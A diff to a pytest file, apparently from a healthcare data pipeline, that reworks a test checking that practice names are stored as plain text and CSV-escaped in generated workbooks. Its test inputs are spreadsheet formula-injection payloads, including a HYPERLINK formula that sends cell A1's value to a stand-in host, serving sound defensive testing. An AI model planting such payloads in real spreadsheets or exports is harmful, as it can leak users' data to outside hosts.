@@ -139,25 +139,31 @@ def test_names_are_escaped(run):
     assert "</script>" not in page_json({"name": evil}) and "\\u003c/script>" in page_json({"name": evil})
 
 
-@pytest.mark.parametrize("evil", ['=HYPERLINK("http://x.example/?"&A1,"click me")', "{=1+1}", "http://x.example",
-                                  "@SUM(1+1)", "+1", "-1+2", "\t=1"])
-def test_names_never_become_formulas_or_links(run, tmp_path, evil):
-    """A practice name is text in every workbook cell and CSV-escaped (OWASP) in all_icbs.csv."""
+EVIL_NAMES = ['=HYPERLINK("http://x.example/?"&A1,"click me")', "{=1+1}", "http://x.example", "@SUM(1+1)", "+1",
+              "-1+2", "\t=1"]
+
+
+def test_names_never_become_formulas_or_links(run, tmp_path):
+    """A practice name is text in every workbook cell and CSV-escaped (OWASP) in all_icbs.csv: one practice
+    of the ICB per name, all written in one pass."""
     from pipelines.outputs.extracts import write_extracts
 
     analysis = load_analysis(run)
     icb = analysis.assessed.filter(pl.col("org_type") == "practice")["icb_code"][0]
-    first = analysis.assessed.filter((pl.col("org_type") == "practice") & (pl.col("icb_code") == icb))["org_code"][0]
+    practices = analysis.assessed.filter((pl.col("org_type") == "practice") & (pl.col("icb_code") == icb))
+    chosen = dict(zip(practices["org_code"].unique(maintain_order=True).to_list(), EVIL_NAMES))
+    assert len(chosen) == len(EVIL_NAMES)
     analysis.assessed = analysis.assessed.with_columns(
-        org_name=pl.when(pl.col("org_code") == first).then(pl.lit(evil)).otherwise(pl.col("org_name")))
+        org_name=pl.col("org_code").replace_strict(chosen, default=pl.col("org_name"), return_dtype=pl.Utf8))
     analysis.layout = type(analysis.layout)(tmp_path / "out")
     info = write_extracts(analysis)
     wb = openpyxl.load_workbook(info["folder"] / f"{icb}.xlsx")
-    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == evil]
-    assert cells and all(c.data_type == "s" and c.hyperlink is None for c in cells)
     assert not any(c.data_type == "f" for ws in wb.worksheets for row in ws.iter_rows() for c in row)
     text = info["csv"].read_text()
-    assert ("'" + evil.replace('"', '""')) in text or evil.startswith(("{", "h"))
+    for evil in EVIL_NAMES:
+        cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == evil]
+        assert cells and all(c.data_type == "s" and c.hyperlink is None for c in cells), evil
+        assert ("'" + evil.replace('"', '""')) in text or evil.startswith(("{", "h")), evil
 
 
 @pytest.fixture(scope="module")
